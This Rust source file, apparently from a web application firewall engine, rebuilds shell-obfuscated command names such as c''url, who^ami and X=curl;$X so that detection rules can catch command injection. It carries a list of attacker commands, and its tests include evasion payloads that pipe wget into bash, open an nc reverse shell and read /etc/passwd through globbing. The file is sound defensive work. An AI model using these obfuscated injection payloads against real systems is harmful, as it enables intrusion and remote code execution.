//! Names of commands that a shell puts together: `c''url`, `w\hoami`, `who^ami`, `cu$@rl`, `X=curl;$X`, `/b??/cat`.
//!
//! Rules look for commands by their names. A value with a name in such a form, where a shell expects a command, is inspected
//! again as the shell would read it. Other quotes and backslashes are left alone: prose has them, too.

use super::message_variables::MessageVariables;
use super::texts::TextId;
use crate::seclang::Variable;

/// Maximum number of variables that are replaced by their values.
const VARIABLES_MAX: usize = 8;
/// Maximum length of a variable's value.
const VARIABLE_BYTES_MAX: usize = 64;
/// Maximum length of all values that are put in place of variables in a text.
const REPLACED_BYTES_MAX: usize = 4096;
/// Longer patterns of names match no command.
const PATTERN_BYTES_MAX: usize = 32;

/// Adds the values of a variable that contain such commands, also percent-encoded, as a shell reads them.
pub(super) fn judge(variables: &mut MessageVariables, variable: Variable) {
    let texts = &variables.texts;
    let entries = variables.values.of(variable).iter();
    let found: Vec<(TextId, Vec<u8>)> = entries
        .flat_map(|entry| {
            let value = texts.get(entry.text);
            let is_encoded = memchr::memchr(b'%', value).is_some();
            let decoded = is_encoded.then(|| super::request::decoded(value));
            let decoded = decoded.as_deref().and_then(shell_text);
            // A quote that is decoded may hide what follows.
            shell_text(value).into_iter().chain(decoded).map(|plain| (entry.name, plain))
        })
        .collect();
    for (name, plain) in found {
        variables.texts.count_work(plain.len());
        let text = variables.texts.add(&plain);
        variables.values.add_nested(variable, name, None, text);
    }
}

/// A value as a shell reads it; `None`: no name of a command in it is put together.
pub fn shell_text(value: &[u8]) -> Option<Vec<u8>> {
    if !value.iter().any(|byte| is_mark(*byte)) {
        return None;
    }
    let mut variables = Vec::new();
    let mut at = 0;
    // Text and cells of tables have quotes around whole words.
    let mut may_be_text = true;
    loop {
        let blanks = value.get(at..)?.iter().take_while(|byte| byte.is_ascii_whitespace()).count();
        let start = at + blanks;
        let word = ShellWord::read(value.get(start..)?, &variables);
        if word.is_command() && !(word.is_quoted && (may_be_text || blanks > 0)) {
            let mut plain = value.get(..start)?.to_vec();
            unquote(value.get(start..)?, &mut variables, &mut plain);
            return Some(plain);
        }
        word.keep_variable(&mut variables);
        may_be_text = word.is_quoted;
        let from = start + word.bytes;
        at = from + value.get(from..)?.iter().position(|byte| separates(*byte))? + 1;
    }
}

/// Whether a byte may put a name together.
fn is_mark(byte: u8) -> bool {
    matches!(byte, b'\'' | b'"' | b'\\' | b'^' | b'$' | b'?' | b'*' | b'[')
}

/// Whether a command may follow behind a byte.
fn separates(byte: u8) -> bool {
    matches!(byte, b';' | b'|' | b'&' | b'\n' | b'\r' | b'`' | b'(' | b'{')
}

fn ends_word(byte: u8) -> bool {
    byte.is_ascii_whitespace() || separates(byte) || matches!(byte, b')' | b'}' | b'<' | b'>')
}

/// Appends the text behind a place as a shell reads it.
fn unquote(text: &[u8], variables: &mut Vec<(Vec<u8>, Vec<u8>)>, plain: &mut Vec<u8>) {
    let mut rest = text;
    let mut replaced = 0;
    while !rest.is_empty() {
        let may_replace = replaced < REPLACED_BYTES_MAX;
        let word = ShellWord::read(rest, if may_replace { variables.as_slice() } else { &[] });
        replaced += word.replaced;
        word.keep_variable(variables);
        plain.extend_from_slice(&word.plain);
        let (between, behind) = rest.split_at((word.bytes).min(rest.len()));
        let separators = behind.iter().take_while(|byte| ends_word(**byte)).count();
        let separators = if between.is_empty() { separators.max(1) } else { separators };
        plain.extend_from_slice(&behind[..separators]);
        rest = &behind[separators..];
    }
}

/// A word of a command line.
#[derive(Debug, Default)]
struct ShellWord {
    /// The word as the command gets it.
    plain: Vec<u8>,
    /// The length of the word as it is written.
    bytes: usize,
    has_marks: bool,
    /// The length of the values in place of variables.
    replaced: usize,
    /// Whether the word is a single quoted string.
    is_quoted: bool,
    /// Whether a separator follows directly.
    is_cell: bool,
}

impl ShellWord {
    fn read(text: &[u8], variables: &[(Vec<u8>, Vec<u8>)]) -> Self {
        let mut word = Self::default();
        let mut at = 0;
        while let Some(byte) = text.get(at).copied().filter(|byte| !ends_word(*byte)) {
            let rest = &text[at + 1..];
            at += 1 + match byte {
                b'\'' | b'"' => word.quoted(byte, at == 0, rest),
                b'\\' | b'^' if !rest.is_empty() => {
                    word.has_marks = true;
                    let bytes = if rest.starts_with(b"\r\n") { 2 } else { 1 };
                    let is_line = matches!(rest[0], b'\r' | b'\n');
                    word.plain.extend((!is_line).then_some(rest[0]));
                    bytes
                }
                b'$' => word.variable(rest, variables),
                _ => {
                    word.plain.push(byte);
                    0
                }
            };
        }
        word.bytes = at;
        word.is_cell = text.get(at).is_some_and(|byte| separates(*byte));
        word
    }

    /// Reads a quoted text, behind its first quote. Returns its length.
    fn quoted(&mut self, quote: u8, is_first: bool, rest: &[u8]) -> usize {
        let Some(end) = memchr::memchr(quote, rest) else {
            // A quote without an end is an apostrophe, or ends a string that began before.
            self.plain.push(quote);
            return 0;
        };
        self.is_quoted = is_first && rest.get(end + 1).is_none_or(|byte| ends_word(*byte));
        self.has_marks = true;
        self.plain.extend_from_slice(&rest[..end]);
        end + 1
    }

    /// Reads a variable, behind `$`. Returns its length.
    fn variable(&mut self, rest: &[u8], variables: &[(Vec<u8>, Vec<u8>)]) -> usize {
        let is_name = |byte: &&u8| byte.is_ascii_alphanumeric() || **byte == b'_';
        let (name, bytes) = match rest {
            [b'@' | b'*' | b'!' | b'#' | b'-', ..] => (&b""[..], 1),
            [b'\'' | b'"', ..] => (&b""[..], 0),
            [b'{', inner @ ..] => {
                let end = memchr::memchr(b'}', inner).unwrap_or(inner.len());
                let name = inner.iter().take_while(is_name).count();
                (&inner[..name], (end + 2).min(rest.len()))
            }
            _ => {
                let bytes = rest.iter().take_while(is_name).count();
                (&rest[..bytes], bytes)
            }
        };
        let known = variables.iter().rev().find(|(known, _)| known == name);
        match known {
            Some((_, value)) if self.replaced < REPLACED_BYTES_MAX => {
                self.has_marks = true;
                self.replaced += value.len();
                self.plain.extend_from_slice(value);
            }
            // Variables of the environment are not known.
            None if name.is_empty() || name.iter().all(u8::is_ascii_digit) => {
                self.has_marks |= bytes > 0;
            }
            _ => {
                self.plain.push(b'$');
                self.plain.extend_from_slice(&rest[..bytes]);
            }
        }
        bytes
    }

    /// Whether the word is the name of a command that is put together.
    fn is_command(&self) -> bool {
        let word = simple_pattern(&self.plain.to_ascii_lowercase());
        let start = word.iter().rposition(|byte| *byte == b'/').map_or(0, |at| at + 1);
        let (path, name) = word.split_at(start);
        let has_pattern = path.starts_with(b"/") && word.iter().any(|it| b"?*".contains(it));
        // Tables of texts have quoted cells.
        let is_marked = self.has_marks && !(self.is_quoted && self.is_cell);
        (is_marked || has_pattern)
            && name.len() <= PATTERN_BYTES_MAX
            && name.iter().any(u8::is_ascii_alphabetic)
            && COMMANDS.iter().any(|command| fits(name, command.as_bytes()))
    }

    /// Keeps the value of a variable: `X=curl`.
    fn keep_variable(&self, variables: &mut Vec<(Vec<u8>, Vec<u8>)>) {
        let Some(at) = memchr::memchr(b'=', &self.plain) else { return };
        let (name, value) = self.plain.split_at(at);
        let is_name =
            !name.is_empty() && name.iter().all(|it| it.is_ascii_alphanumeric() || *it == b'_');
        if is_name && variables.len() < VARIABLES_MAX && value.len() <= VARIABLE_BYTES_MAX {
            variables.push((name.to_vec(), value[1..].to_vec()));
        }
    }
}

/// Whether a name fits a pattern of a shell with `?` and `*`.
fn fits(pattern: &[u8], name: &[u8]) -> bool {
    let (mut at, mut of_name) = (0, 0);
    // The places behind the last `*`, and in the name where its text ends.
    let mut star = None;
    while of_name < name.len() {
        match pattern.get(at) {
            Some(b'*') => {
                at += 1;
                star = Some((at, of_name));
            }
            Some(byte) if *byte == b'?' || *byte == name[of_name] => {
                (at, of_name) = (at + 1, of_name + 1)
            }
            _ => {
                let Some((behind, end)) = star else { return false };
                star = Some((behind, end + 1));
                (at, of_name) = (behind, end + 1);
            }
        }
    }
    pattern.get(at..).is_some_and(|rest| rest.iter().all(|byte| *byte == b'*'))
}

/// A pattern with `?` in place of sets of characters (`[c]at`), and one `*` in place of several.
fn simple_pattern(pattern: &[u8]) -> Vec<u8> {
    let mut simple: Vec<u8> = Vec::with_capacity(pattern.len());
    let last_end = memchr::memrchr(b']', pattern).unwrap_or(0);
    let mut at = 0;
    while let Some(byte) = pattern.get(at).copied() {
        let end = (byte == b'[' && at < last_end)
            .then(|| memchr::memchr(b']', &pattern[at + 1..]))
            .flatten();
        at += 1 + end.map_or(0, |end| end + 1);
        let byte = if end.is_some() { b'?' } else { byte };
        if byte != b'*' || simple.last() != Some(&b'*') {
            simple.push(byte);
        }
    }
    simple
}

/// Commands of attackers.
const COMMANDS: [&str; 94] = [
    "ash",
    "awk",
    "base32",
    "base64",
    "bash",
    "bitsadmin",
    "busybox",
    "bzip2",
    "cat",
    "certutil",
    "chmod",
    "chown",
    "cmd",
    "cmd.exe",
    "cp",
    "crontab",
    "csh",
    "curl",
    "curl.exe",
    "dash",
    "dd",
    "dig",
    "dir",
    "echo",
    "env",
    "eval",
    "exec",
    "fetch",
    "find",
    "ftp",
    "gawk",
    "gcc",
    "grep",
    "gunzip",
    "gzip",
    "head",
    "host",
    "hostname",
    "id",
    "ifconfig",
    "ipconfig",
    "java",
    "kill",
    "ksh",
    "less",
    "ln",
    "ls",
    "lua",
    "mawk",
    "mkdir",
    "more",
    "mv",
    "nc",
    "ncat",
    "net",
    "netcat",
    "netstat",
    "nl",
    "node",
    "nohup",
    "nslookup",
    "od",
    "openssl",
    "passwd",
    "perl",
    "php",
    "ping",
    "powershell",
    "printenv",
    "printf",
    "ps",
    "pwd",
    "python",
    "python2",
    "python3",
    "rev",
    "rm",
    "ruby",
    "sed",
    "sh",
    "sleep",
    "socat",
    "sort",
    "ssh",
    "strings",
    "sudo",
    "tac",
    "tail",
    "tar",
    "tee",
    "telnet",
    "uname",
    "wget",
    "whoami",
];

#[cfg(test)]
mod tests {
    use super::*;

    fn check(value: &str, expected: Option<&str>) {
        let plain = shell_text(value.as_bytes());
        let plain = plain.as_deref().map(String::from_utf8_lossy);
        assert_eq!(plain.as_deref(), expected, "{value}");
    }

    #[test]
    fn names_are_put_together() {
        for (value, expected) in [
            ("c''url http://e/x", "curl http://e/x"),
            ("8.8.8.8;c''url http://e/x", "8.8.8.8;curl http://e/x"),
            ("8.8.8.8;c\"\"url http://e/x", "8.8.8.8;curl http://e/x"),
            ("8.8.8.8; cu\\rl http://e/x", "8.8.8.8; curl http://e/x"),
            ("8.8.8.8;cu\\\nrl x", "8.8.8.8;curl x"),
            ("8.8.8.8|w\\get http://e/x -O-|b''ash", "8.8.8.8|wget http://e/x -O-|bash"),
            ("8.8.8.8;w\\hoami", "8.8.8.8;whoami"),
            ("8.8.8.8;'id'", "8.8.8.8;id"),
            ("8.8.8.8;\"i\"d", "8.8.8.8;id"),
            ("8.8.8.8;\\id", "8.8.8.8;id"),
            ("8.8.8.8;n''c 1 4 -e /b''in/s''h", "8.8.8.8;nc 1 4 -e /bin/sh"),
            ("$(c''url http://e/x)", "$(curl http://e/x)"),
            ("a`c'u'rl http://e/x`", "a`curl http://e/x`"),
            ("8.8.8.8&who^ami", "8.8.8.8&whoami"),
            ("8.8.8.8&\"curl\" http://e/x", "8.8.8.8&curl http://e/x"),
            ("8.8.8.8;cu$@rl http://e/x", "8.8.8.8;curl http://e/x"),
            ("8.8.8.8;wh${u}oami", "8.8.8.8;wh${u}oami"),
            ("8.8.8.8;wh$1oami", "8.8.8.8;wh$1oami"),
            ("8.8.8.8;X=curl;$X http://e/x", "8.8.8.8;X=curl;curl http://e/x"),
            ("8.8.8.8;a=c;b=at;$a$b /x", "8.8.8.8;a=c;b=at;cat /x"),
            ("8.8.8.8;a=wh;${a}oami", "8.8.8.8;a=wh;whoami"),
            ("8.8.8.8;/b??/cat /etc/p?sswd", "8.8.8.8;/b??/cat /etc/p?sswd"),
            ("8.8.8.8;/???/c?rl http://e/x", "8.8.8.8;/???/c?rl http://e/x"),
            ("8.8.8.8;/u''sr/bin/c''url x", "8.8.8.8;/usr/bin/curl x"),
            ("8.8.8.8;/bin/[c]at /x", "8.8.8.8;/bin/[c]at /x"),
            ("8.8.8.8;/bin/c***a***t /x", "8.8.8.8;/bin/c***a***t /x"),
            ("x;C''URL x", "x;CURL x"),
        ] {
            let is_none = value.contains("wh$1") || value.contains("wh${u");
            check(value, (!is_none).then_some(expected));
        }
    }

    #[test]
    fn variables_make_a_text_little_longer() {
        let long = "v".repeat(VARIABLE_BYTES_MAX);
        for repeated in ["$X", "$X;", "$X ", "${X}"] {
            let value = format!("X={long};c''url {}", repeated.repeat(10_000));
            let plain = shell_text(value.as_bytes()).expect("a command");
            let bytes_max = value.len() + 2 * REPLACED_BYTES_MAX;
            assert!(plain.len() <= bytes_max, "{repeated}: {} bytes", plain.len());
        }
    }

    #[test]
    fn patterns_are_simplified_in_one_pass() {
        for (pattern, expected) in [
            ("[c]at", "?at"),
            ("c**a*t", "c*a*t"),
            ("[[", "[["),
            ("a]b[", "a]b["),
            ("[]", "?"),
            ("", ""),
        ] {
            assert_eq!(simple_pattern(pattern.as_bytes()), expected.as_bytes(), "{pattern}");
        }
        assert_eq!(simple_pattern(&[b'['; 1 << 20]).len(), 1 << 20);
    }

    #[test]
    fn texts_are_left_alone() {
        for value in [
            "",
            "O'Brien; don't",
            "Rock 'n' Roll; R&B",
            "a; b",
            "8.8.8.8;curl http://e/x",
            "'id'",
            "\"cat\"",
            "1;\"id\";\"name\"",
            "nr;\"id\"\n1;\"2\"",
            "he said: \"ls\" & more",
            "Rock; \"cat\" food & 'dog' food",
            "1;\"2\";\"ls\"",
            "C:\\bin\\cat",
            "a & \\textbf{x}",
            "(\\d+)|\\w",
            "x^2 & y^2",
            "{\"id\":1}",
            "[{\\\"id\\\": 1}]",
            "\n \"id\": 1",
            "$5 & $6",
            "a=1&b=$a",
            "what? (who?) *note*",
            "it's; 'tis",
            "a;'",
            "a;\\",
            "a;$",
            "a;^",
        ] {
            check(value, None);
        }
    }

    #[test]
    fn patterns_fit_names() {
        for (pattern, name, expected) in [
            ("c?rl", "curl", true),
            ("c*l", "curl", true),
            ("*", "curl", true),
            ("c*x", "curl", false),
            ("curl", "curl", true),
            ("cur", "curl", false),
            ("curl?", "curl", false),
            ("", "curl", false),
        ] {
            assert_eq!(fits(pattern.as_bytes(), name.as_bytes()), expected, "{pattern}");
        }
    }
}
